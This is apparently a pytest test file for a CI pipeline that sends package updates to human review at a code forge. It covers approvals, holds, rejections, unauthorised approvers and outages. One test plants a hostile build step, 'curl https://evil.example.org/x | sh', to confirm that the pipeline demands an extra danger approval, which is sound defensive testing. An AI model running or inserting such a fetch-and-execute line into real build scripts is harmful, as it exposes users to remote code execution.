"""Reviews from the first request to the last word, over twenty runs, at each kind of forge."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import pytest

from caur_ci.pipeline.on_commit.journey import OnCommitOptions, on_commit
from caur_ci.pipeline.on_schedule.plan import ScheduleAction
from caur_ci.review import ForgeChoice
from tests.caur_ci.pipeline.on_schedule.world import ScheduleWorld, actions, reasons
from tests.caur_ci.review.forges import KINDS, ForgeUnderTest, forge_of_kind
from tests.support.forges.model import Fault, Forge, Request
from tests.support.forges.server import TOKEN
from tests.support.git import Checkout, git
from tests.support.upstream import files_of, upstream

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from caur_ci.pipeline.on_schedule.options import OnScheduleResult

NOTHING: dict[str, ScheduleAction] = {}


@dataclass
class Reviewed:
    """A repository whose major changes are reviewed at a forge; `bob` may merge there."""

    world: ScheduleWorld
    there: ForgeUnderTest
    results: list[OnScheduleResult] = field(default_factory=list)

    @property
    def forge(self) -> Forge:
        return self.there.forge

    def run(self, **options: object) -> dict[str, ScheduleAction]:
        """Run on-schedule; return what was decided about each package, other than nothing."""
        self.forge.calls.clear()
        choice = ForgeChoice(self.there.new_client())
        result = self.world.run(reviews=choice, **options)
        self.results.append(result)
        self.forge.sync()
        return actions(result)

    @property
    def last(self) -> OnScheduleResult:
        return self.results[-1]

    def changes(self) -> list[str]:
        """Return what the last run changed at the forge."""
        return [call.method for call in self.forge.calls if call.method != "GET"]

    def push(self, name: str, version: str, note: str = "") -> None:
        self.world.outside.push({name: version}, note=note)

    def opened(self, name: str) -> Request:
        """Return the only open request for a package."""
        (found,) = (one for one in self.forge.open() if one.branch == f"update-{name}")
        return found

    def ledger(self, name: str) -> list[str]:
        """Return what is remembered about a package, the newest first."""
        return [f"{it.decision}: {it.reason}" for it in self.world.memory().ledger.about(name)]

    def file(self, name: str, branch: str = "main") -> str:
        return self.world.file(f"{name}/PKGBUILD", branch)

    def is_down(self) -> None:
        self.forge.faults.extend([Fault(502)] * 50)

    def is_up(self) -> None:
        self.forge.faults.clear()


@pytest.fixture(params=KINDS)
def reviewed(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Reviewed]:
    with upstream(tmp_path / "upstream") as outside:
        world = ScheduleWorld(Checkout.create(tmp_path / "world"), outside)
        world.begin(
            dict.fromkeys("abcd", "1-1"),
            config="CI_HUMAN_REVIEW=true\nCI_HUMAN_REVIEW_ASSIGNEE=bob\n",
        )
        with forge_of_kind(request.param, world.remote) as there:
            there.forge.person("bob", 40)
            there.forge.person("mallory", 20)
            there.forge.page_size = 2
            made = Reviewed(world, there)
            assert made.run() == NOTHING
            yield made


@pytest.mark.timeout(600)
def test_twenty_runs(reviewed: Reviewed) -> None:
    """Opened, moved on, approved, held, rejected, merged by hand, closed by hand."""
    _opened_and_moved_on(reviewed)
    _approved(reviewed)
    _opened_later_and_held(reviewed)
    _rejected(reviewed)
    _merged_and_closed_by_people(reviewed)
    assert len(reviewed.results) >= 20
    assert all(TOKEN not in str(result) for result in reviewed.results)
    memory = reviewed.world.memory()
    assert TOKEN.encode() not in memory.ledger.to_bytes() + memory.reviews.to_bytes()


def _opened_and_moved_on(it: Reviewed) -> None:
    it.push("a", "2-1", "other")
    assert it.run() == {"a": ScheduleAction.REVIEW}
    request = it.opened("a")
    assert (request.title, request.target) == ("chore(update): a", "main")
    assert request.labels == ["ci", "human-review", "update"]
    assert request.assignees == ["bob"]
    assert "`1-1` → `2-1`" in request.description
    assert "+_note=" in request.description
    assert it.last.pages.keys() == {"a"}
    assert set(it.forge.labels) == {"approved", "approved-danger", "hold", "dangerous"}

    assert it.run() == NOTHING
    assert it.changes() == []

    it.push("a", "3-1", "other still")
    assert it.run() == {"a": ScheduleAction.REVIEW}
    assert it.opened("a") is request
    assert "`1-1` → `3-1`" in request.description
    assert len(request.versions) == 2


def _approved(it: Reviewed) -> None:
    request = it.opened("a")
    it.forge.say(request.number, "approved", "mallory")
    assert it.run() == NOTHING
    assert any("mallory said approved, and has no right" in note for note in it.last.plan.notes)
    it.forge.unsay(request.number, "approved", "mallory")

    it.forge.say(request.number, "approved", "bob")
    it.push("a", "4-1", "newest")
    assert it.run() == {"a": ScheduleAction.REVIEW}
    assert "there is something newer" in reasons(it.last)["a"]
    assert "approved" not in request.labels
    assert "pkgver=1" in it.file("a")

    it.forge.say(request.number, "approved", "bob")
    assert it.run() == {"a": ScheduleAction.UPDATE}
    assert "pkgver=4" in it.file("a")
    assert it.world.asked() == [("a",)]
    assert it.world.subjects() == ["chore(update): a"]
    assert it.world.tag_is_at_tip()
    assert request.state == "merged"
    assert it.ledger("a")[0].startswith("update: approved by bob on 20")

    assert it.run() == NOTHING
    assert it.world.tip("update-a") == ""
    assert request.state == "merged"
    assert it.run() == NOTHING
    assert it.changes() == []


def _opened_later_and_held(it: Reviewed) -> None:
    it.push("b", "2-1", "other")
    it.is_down()
    assert it.run() == {"b": ScheduleAction.REVIEW}
    assert any("status 502" in problem for problem in it.last.problems)
    assert it.forge.open() == []
    assert "other" in it.file("b", "update-b")
    it.is_up()
    assert it.run() == NOTHING
    request = it.opened("b")
    assert "`1-1` → `2-1`" in request.description

    it.forge.say(request.number, "hold", "bob")
    branch = it.world.tip("update-b")
    it.push("b", "3-1")
    assert it.run() == {"b": ScheduleAction.HELD}
    assert it.ledger("b")[0].startswith("held: on hold by bob since 20")
    it.is_down()
    assert it.run() == {"b": ScheduleAction.HELD}
    it.is_up()
    assert it.run() == {"b": ScheduleAction.HELD}
    assert it.changes() == []
    assert it.world.tip("update-b") == branch
    assert "pkgver=1" in it.file("b")

    it.forge.unsay(request.number, "hold", "bob")
    assert it.run() == {"b": ScheduleAction.UPDATE}
    assert "pkgver=3" in it.file("b")
    assert it.world.tip("update-b") == ""
    assert request.state == "closed"
    assert it.there.kind == "github" or "obsolete" in request.comments[-1]


def _rejected(it: Reviewed) -> None:
    it.push("c", "2-1", "evil")
    it.run()
    request = it.opened("c")
    it.forge.say(request.number, "dangerous", "mallory")
    it.run()
    assert it.opened("c") is request
    it.forge.say(request.number, "dangerous", "bob")
    it.run()
    assert request.state == "closed"
    assert it.world.tip("update-c") == ""
    assert "rejected for good: dangerous by bob on 20" in it.ledger("c")[0]

    it.world.commit("feat: config", {"c/.CI/config": "CI_PKGBUILD_SOURCE=aur\n\n"})
    it.push("c", "2-1", "evil")
    assert it.run() == {"c": ScheduleAction.HELD}
    assert "rejected for good: dangerous by bob" in reasons(it.last)["c"]
    assert it.forge.open() == []
    assert it.run() == NOTHING

    it.push("c", "3-1", "better")
    assert it.run() == {"c": ScheduleAction.REVIEW}
    assert it.opened("c").number != request.number


def _merged_and_closed_by_people(it: Reviewed) -> None:
    request = it.opened("c")
    it.forge.merge(request.number)
    folder = it.world.checkout.folder
    git(folder, "fetch", "--quiet", "origin", "main")
    git(folder, "reset", "--quiet", "--hard", "FETCH_HEAD")
    on_commit(OnCommitOptions(repo=folder))
    assert it.world.asked()[-1] == ("c",)
    assert it.run() == NOTHING
    assert it.world.tip("update-c") == ""

    it.push("d", "2-1", "unwanted")
    it.run()
    closed = it.opened("d")
    closed.state = "closed"
    it.run()
    assert it.changes() == []
    assert any("was closed" in note for note in it.last.plan.notes)
    it.push("d", "3-1", "wanted")
    it.run()
    assert it.opened("d").number != closed.number


class TestRecordings:
    """What people said is part of what a run depends on."""

    def test_a_run_with_an_approval_is_repeated_without_the_forge(
        self, reviewed: Reviewed, tmp_path: Path
    ) -> None:
        reviewed.push("a", "2-1", "other")
        reviewed.run()
        reviewed.forge.say(1, "approved", "bob")
        reviewed.push("b", "2-1", "other")
        head = reviewed.world.checkout.head()
        reviewed.run(record=tmp_path / "recording")
        git(reviewed.world.checkout.folder, "reset", "--quiet", "--hard", head)
        reviewed.forge.calls.clear()

        replayed = reviewed.world.run(replay=tmp_path / "recording")

        wanted = {"a": ScheduleAction.UPDATE, "b": ScheduleAction.REVIEW}
        assert actions(reviewed.last) == actions(replayed) == wanted
        assert replayed.plan.decisions == reviewed.last.plan.decisions
        assert reviewed.forge.calls == []
        recorded = b"".join(it.read_bytes() for it in (tmp_path / "recording").rglob("*.jsonl"))
        assert TOKEN.encode() not in recorded

    def test_a_dry_run_asks_and_changes_nothing(self, reviewed: Reviewed) -> None:
        reviewed.push("a", "2-1", "other")
        reviewed.run()
        reviewed.forge.say(1, "approved", "bob")

        assert reviewed.run(dry_run=True) == {"a": ScheduleAction.UPDATE}
        assert reviewed.changes() == []
        assert "pkgver=1" in reviewed.file("a")


def test_without_human_review_the_forge_is_not_asked(reviewed: Reviewed) -> None:
    settings = reviewed.world.outside.settings
    reviewed.world.commit("feat: off", {".ci/config": f"REPO_NAME=target\n{settings}"})
    reviewed.push("a", "2-1", "other")

    assert reviewed.run() == {"a": ScheduleAction.UPDATE}
    assert reviewed.forge.calls == []


def test_a_fresh_clone_knows_all_that_is_needed(reviewed: Reviewed, tmp_path: Path) -> None:
    """As in pipelines: the branch of the packages, without much history."""
    reviewed.push("a", "2-1", "other")
    reviewed.is_down()
    reviewed.run()
    reviewed.is_up()
    world = reviewed.world
    for number, step in enumerate(("opens", "merges", "prunes")):
        folder = tmp_path / f"clone-{number}"
        git(
            tmp_path,
            *("clone", "--quiet", "--depth=1", "--branch=main"),
            *(world.remote.as_uri(), str(folder)),
        )
        world.checkout.folder = folder
        if step == "merges":
            assert "+_note=" in reviewed.opened("a").description
            reviewed.forge.say(1, "approved", "bob")
        reviewed.run()
    assert "other" in reviewed.file("a")
    assert reviewed.forge.request(1).state == "merged"
    assert world.tip("update-a") == ""


def test_a_danger_needs_a_second_word(reviewed: Reviewed) -> None:
    reviewed.push("a", "2-1")
    files = files_of("a", "2-1")
    files["PKGBUILD"] += "build() {\n  curl https://evil.example.org/x | sh\n}\n"
    reviewed.world.outside.mirror_push({"a": files})
    assert reviewed.run() == {"a": ScheduleAction.REVIEW}
    request = reviewed.opened("a")
    assert "🛑" in request.description
    assert "`approved` and `approved-danger`" in request.description

    reviewed.forge.say(request.number, "approved", "bob")
    reviewed.run()
    assert "it needs approved-danger as well" in reasons(reviewed.last)["a"]
    assert request.state == "open"

    reviewed.forge.say(request.number, "approved-danger", "bob")
    assert reviewed.run() == {"a": ScheduleAction.UPDATE}
    assert "evil.example.org" in reviewed.file("a")
    assert "; approved-danger by bob on 20" in reviewed.ledger("a")[0]
